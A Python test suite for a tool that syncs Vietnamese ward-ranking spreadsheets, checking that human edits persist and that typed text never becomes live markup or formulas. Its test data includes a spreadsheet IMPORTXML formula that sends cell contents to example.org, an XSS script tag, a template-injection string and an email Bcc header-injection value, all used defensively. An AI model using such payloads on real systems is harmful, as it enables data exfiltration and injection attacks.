"""What people typed stays as they typed it: over our columns, beside our rows, and when it looks like code."""

import openpyxl

from .office import Office, part
from .small_town import WARDS

IMPORT = '=IMPORTXML("https://example.org/?q=" & A1; "//a")'
MARKUP = '<script>alert(1)</script><b>đậm</b> & "nháy"'


def decide(office: Office, unit: str, **columns: str) -> None:
    for column, value in columns.items():
        office.type("master", "ranking", unit, column, value)


def test_the_committee_s_decision_counts_and_stays_through_sorts_and_further_runs(published: Office) -> None:
    decide(published, "P10", agreed_points="24", agreed_band="Xuất sắc", reason="Công trình 200 ngày")
    assert published.run("sync").code == 0
    ten = published.standing("P10")
    assert (ten["total"], ten["computed"], ten["rank"], ten["band"]) == ("24", "15", 1, "Xuất sắc")
    published.sort("master", "ranking", "name")
    published.sort("master", "ranking", "total")
    order = [row for _, row in sorted((row, unit) for unit, row in published.place("master", "ranking").rows.items())]
    published.type("VP", "points", "P4", "2.1", "4,5")
    published.sync()
    row = published.row("master", "ranking", "P10")
    assert (row["name"], row["agreed_band"], row["reason"]) == ("Phường 10", "Xuất sắc", "Công trình 200 ngày")
    assert published.holds("master", "ranking", "P10", "agreed_points") == 24
    assert published.see("master", "ranking", "P4", "total") == "21,50"
    after = [row for _, row in sorted((row, unit) for unit, row in published.place("master", "ranking").rows.items())]
    assert after == order
    assert published.sync()["requests"]["writes"] == 0


def test_a_decision_without_a_reason_is_asked_about(published: Office) -> None:
    decide(published, "P10", agreed_points="24")
    published.sync()
    (finding,) = published.findings()
    assert (finding["code"], finding["unit"], finding["tab"]) == ("decision-without-reason", "P10", "Xếp hạng")


def test_what_is_typed_over_a_computed_cell_stays_and_is_a_finding(published: Office) -> None:
    published.type("master", "ranking", "P4", "total", "30")
    published.type("C1", "reports", "P4", "self", "sẽ tính lại")
    published.sync()
    assert published.holds("master", "ranking", "P4", "total") == 30
    assert published.see("C1", "reports", "P4", "self") == "sẽ tính lại"
    found = {row["book"]: row for row in published.findings()}
    assert {row["code"] for row in found.values()} == {"cell-ours-changed"}
    assert "“30”" in found["master"]["message"]
    assert "“21”" in found["master"]["message"]
    assert found["master"]["cell"] == published.address("master", "ranking", "P4", "total")
    assert published.standing("P4")["total"] == "21"
    assert published.sync()["requests"]["writes"] == 0
    # emptied, it is ours again
    published.type("master", "ranking", "P4", "total", "")
    published.type("C1", "reports", "P4", "self", "")
    published.sync()
    assert published.see("master", "ranking", "P4", "total") == "21,00"
    assert published.see("C1", "reports", "P4", "self") == "21,00"
    assert published.codes() == []


def test_notes_beside_our_tables_and_rows_below_them_stay(published: Office) -> None:
    ranking = published.worksheet("master", "ranking")
    below = max(published.place("master", "ranking").rows.values()) + 2
    ranking.update_acell(f"B{below}", "Ghi chú của Ban Thường trực")
    feedback = published.worksheet("P4", "feedback")
    feedback.update_acell("D10", "phường đã xem")
    published.type("P4", "self", "1.1", "points", "11")
    published.type("P4", "self", "1.2", "points", "12")
    published.sync()
    assert ranking.acell(f"B{below}").value == "Ghi chú của Ban Thường trực"
    assert feedback.acell("D10").value == "phường đã xem"


def test_a_ward_s_rows_sorted_by_a_person_are_followed(published: Office) -> None:
    published.sort("P4", "appendix", "code")
    assert published.place("P4", "appendix").rows["S1"] > published.place("P4", "appendix").rows["S2"]
    assert published.sync()["cells_changed"] == 0


# --- text that looks like code ---------------------------------------------------------------------------------------


def type_everywhere(office: Office, text: str) -> None:
    """Type a text into every column of free text a ward and a department have."""
    office.fill(
        (
            ("P4", "self", "1.1", "figures", text),
            ("P4", "self", "1.1", "judgement", text),
            ("P4", "highlights", "MH", "content", text),
            ("P4", "highlights", "MH", "effect", text),
            ("P4", "remedies", "NX1", "action", text),
            ("P4", "remedies", "NX1", "result", text),
            ("P4", "appendix", "S1", "note", text),
            ("TG", "bonus", "1", "unit", "Phường 4"),
            ("TG", "bonus", "1", "model", text),
            ("TG", "bonus", "1", "points", "1"),
            ("TG", "bonus", "1", "reason", text),
            ("TG", "questions", "1", "unit", "P4"),
            ("TG", "questions", "1", "criterion", "1.1"),
            ("TG", "questions", "1", "question", text),
            ("C1", "reports", "P4", "remarks", text),
        )
    )


def formulas_we_wrote(office: Office, code: str) -> list[str]:
    """The formulas in the columns that only sync writes."""
    reply = office.client.http_client.fetch_sheet_metadata(
        office.ids[code], {"fields": "sheets(properties/title,data/rowData/values/userEnteredValue)"}
    )
    return [
        cell["userEnteredValue"]["formulaValue"]
        for sheet in reply["sheets"]
        if code == "master" or sheet["properties"]["title"] in ("Phản hồi", "Giải trình")
        for data in sheet.get("data", ())
        for row in data.get("rowData", ())
        for cell in row.get("values", ())
        if "formulaValue" in cell.get("userEnteredValue", {})
    ]


def test_a_formula_typed_as_evidence_is_text_wherever_we_write_it(published: Office) -> None:
    type_everywhere(published, IMPORT)
    assert published.run("sync").code in (0, 1)
    assert published.see("master", "detail", "P4/1.1", "figures") == IMPORT
    assert published.see("master", "highlights", "P4/MH", "content") == IMPORT
    assert published.see("master", "remedies", "P4/NX1", "action") == IMPORT
    assert published.see("master", "bonus", "TG-1", "model") == IMPORT
    assert published.see("P4", "questions", "TG-1", "question") == IMPORT
    assert formulas_we_wrote(published, "master") == []
    assert formulas_we_wrote(published, "P4") == []
    assert "formula-in-text" in published.codes()
    assert published.sync()["requests"]["writes"] == 0


def test_in_the_exported_master_a_typed_formula_is_a_string(published: Office) -> None:
    type_everywhere(published, IMPORT)
    published.run("sync")
    assert published.run("export", "out").code == 0
    (path,) = (published.folder / "out").glob("master *.xlsx")
    sheet = openpyxl.load_workbook(path)["Chi tiết"]
    cells = [cell for row in sheet.iter_rows() for cell in row if "IMPORTXML" in str(cell.value)]
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}


HOSTILE = {
    ("P4", "self", "1.1", "points"): MARKUP,
    ("P1", "self", "1.1", "points"): "{{ 7 * 7 }} {% raw %}",
    ("P2", "self", "1.1", "points"): "a\r\nBcc: x@example.org\r\n\r\nxin chào",
    ("P10", "self", "1.1", "points"): "[x](https://example.org) [bold]",
    ("TG", "bonus", "1", "unit"): MARKUP,
}


def test_what_people_type_is_never_markup_in_a_mail_nor_a_header(published: Office) -> None:
    for place, text in HOSTILE.items():
        published.type(*place, text)
    published.moment = "09g00 ngày 05/11/2020"
    published.sync()
    assert len(published.letters) > 2 * len(WARDS)
    for name, letter in published.letters.items():
        html = part(letter, "html")
        assert "<script" not in html, name
        assert "<b>đậm" not in html, name
        assert letter["Bcc"] is None
        assert len(letter.get_all("To", [])) == 1
    told = {name: " ".join(part(letter, "plain").split()) for name, letter in published.letters.items()}
    for ward, text in (("P4", MARKUP), ("P1", "{{ 7 * 7 }} {% raw %}"), ("P10", "[x](https://example.org) [bold]")):
        assert [name for name, words in told.items() if name.startswith(f"unit-{ward}-") and f"“{text}”" in words]


def test_what_people_type_is_never_markup_on_the_screen(published: Office) -> None:
    published.type("P4", "self", "1.1", "points", "[red]tám[/red] [/]")
    published.sync()
    assert "“[red]tám[/red] [/]”" in published.run("findings").out
    assert published.run("explain", "P4", "1.1").code == 0
    assert "[red]tám[/red] [/]" in published.run("explain", "P4", "1.1").words
